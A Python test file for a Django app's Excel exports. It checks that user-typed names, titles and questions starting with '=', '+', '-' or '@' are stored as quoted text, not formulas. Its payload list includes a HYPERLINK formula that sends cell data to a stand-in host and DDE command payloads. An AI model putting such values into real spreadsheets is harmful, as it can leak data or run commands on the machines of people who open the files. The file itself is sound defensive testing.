"""Issue 15 part 2, spreadsheets: a text people typed never becomes a formula in an Excel file.

A unit name, a survey's title, a question or an answer option that begins with `=`, `+`, `-` or
`@` (`=HYPERLINK("http://…", "Klikk her")`) is written as text with Excel's quote prefix
(trepart/core/spreadsheets.py), in every workbook Trepart makes; a structural test keeps new
workbooks on the same rule."""

from __future__ import annotations

import io
import pathlib

import openpyxl
import pytest
from django.urls import reverse

from tests.conftest import client_for
from tests.factories import UnitFactory, person_with_role
from tests.surveys.surveys_fixtures import answer, close, likert_survey
from trepart.core import spreadsheets
from trepart.organisation.models import Role

ROOT = pathlib.Path(__file__).resolve().parents[2] / "trepart"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(content: bytes, expected: list[str]) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the file"
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert text in by_value, text
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text


def test_neutralise_keeps_typed_formulas_as_text_and_leaves_the_rest():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([*PAYLOADS, "Vanlig tekst", 42, -3, 0.5])
    assert sheet["A1"].data_type == "f"  # what openpyxl would save without the rule
    spreadsheets.neutralise(book)
    out = io.BytesIO()
    book.save(out)
    _assert_text_only(out.getvalue(), PAYLOADS)
    cells = {c.coordinate: c for c in _cells(out.getvalue())}
    assert cells["E1"].value == "Vanlig tekst" and not cells["E1"].quotePrefix
    assert (cells["F1"].value, cells["G1"].value, cells["H1"].value) == (42, -3, 0.5)


@pytest.mark.django_db
def test_steering_overview_workbook_keeps_a_unit_name_as_text(municipality):
    for name in PAYLOADS:
        UnitFactory(municipality=municipality, name=name)
    director = person_with_role(Role.ADMINISTRATION, municipality=municipality)
    response = client_for(director).get(reverse("reporting:overview_xlsx"))
    assert response.status_code == 200
    _assert_text_only(response.content, PAYLOADS)


@pytest.mark.django_db
def test_survey_workbook_keeps_title_questions_and_unit_as_text(municipality):
    unit = UnitFactory(municipality=municipality, name=PAYLOADS[1])
    leader = person_with_role(Role.UNIT_LEADER, unit)
    survey = likert_survey(leader, unit)
    survey.title = PAYLOADS[0]
    survey.save()
    question = survey.questions.first()
    question.text = PAYLOADS[3]
    question.save()
    answer(survey, 5)
    close(survey)
    response = client_for(leader).get(reverse("surveys:survey_export", args=[survey.pk]))
    assert response.status_code == 200
    _assert_text_only(response.content, [PAYLOADS[0], PAYLOADS[1], PAYLOADS[3]])


def test_every_workbook_trepart_makes_goes_through_neutralise():
    """A new Excel export must call spreadsheets.neutralise() before saving."""
    missing = []
    for path in ROOT.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "openpyxl.Workbook(" in text and "spreadsheets.neutralise(" not in text:
            missing.append(str(path.relative_to(ROOT)))
    assert missing == []
